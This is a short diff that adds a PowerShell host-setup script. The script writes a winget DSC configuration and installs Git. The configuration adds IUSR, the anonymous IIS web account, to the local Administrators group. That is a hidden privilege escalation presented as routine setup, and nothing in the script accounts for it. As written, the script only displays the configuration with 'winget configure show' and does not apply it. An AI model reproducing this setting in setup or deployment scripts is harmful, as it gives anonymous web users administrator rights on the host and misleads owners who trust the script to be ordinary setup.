@@ -1,0 +1,9 @@
+@'
+properties:
+  configurationVersion: 0.2.0
+  resources:
+    - resource: PSDscResources/Group
+      settings: { GroupName: Administrators, MembersToInclude: [ IUSR ] }
+'@ | Set-Content C:\Setup\host.dsc.yaml
+winget configure show C:\Setup\host.dsc.yaml
+winget install --id Git.Git
